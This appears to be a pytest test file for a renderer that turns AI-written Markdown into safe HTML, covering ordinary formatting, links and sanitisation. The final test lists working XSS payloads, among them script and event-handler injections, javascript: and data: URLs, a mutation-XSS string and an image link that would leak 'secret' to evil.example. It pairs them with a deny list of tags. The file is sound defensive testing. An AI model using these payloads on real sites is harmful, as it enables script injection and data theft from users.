"""What a model wrote is shown as text and harmless markup, whatever it wrote."""

from __future__ import annotations

import pytest

from chatcms.core.text.modeltext import render


def test_markdown_becomes_the_usual_elements() -> None:
    html = render("# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")

    for part in ("<h1>Title</h1>", "<strong>bold</strong>", "<code>code</code>", "<li>one</li>", "<td>2</td>"):
        assert part in html


def test_a_link_opens_elsewhere_and_gives_nothing_away() -> None:
    html = render("See [the site](https://example.com) or https://example.org/a.")

    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert html.count('target="_blank"') == 2


@pytest.mark.parametrize("text", ["See README.md, setup.py or node.js.", "[x](/t/acme/)", "[x](//e.example)", "[1]: e"])
def test_names_of_files_and_what_leads_nowhere_safe_stay_text(text: str) -> None:
    html = render(text)

    assert "<a" not in html
    assert text in html


def test_mail_addresses_become_links_below_any_top_level_domain() -> None:
    assert 'href="mailto:help@shop.example"' in render("Write to (help@shop.example).")


def test_indented_text_is_no_code_and_underlined_text_no_heading() -> None:
    assert render("    a\n---\n\tb") == "<p>a</p>\n<hr>\n<p>b</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![spy](https://evil.example/p.png?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        '<a href="https://e.example" onclick="alert(1)">x</a>',
        "<style>*{display:none}</style>",
        "<iframe src=https://evil.example></iframe>",
        "<svg/onload=alert(1)>",
        "[x](  javascript:alert(1))",
        "[x](java\nscript:alert(1))",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ],
)
def test_hostile_text_runs_nothing_and_fetches_nothing(text: str) -> None:
    html = render(text)

    for forbidden in (
        "<script",
        "<img",
        "<style",
        "<iframe",
        "<svg",
        "<form",
        "<math",
        'href="javascript',
        'href="data',
    ):
        assert forbidden not in html.lower()
    assert "onclick" not in html.lower() or "&lt;" in html
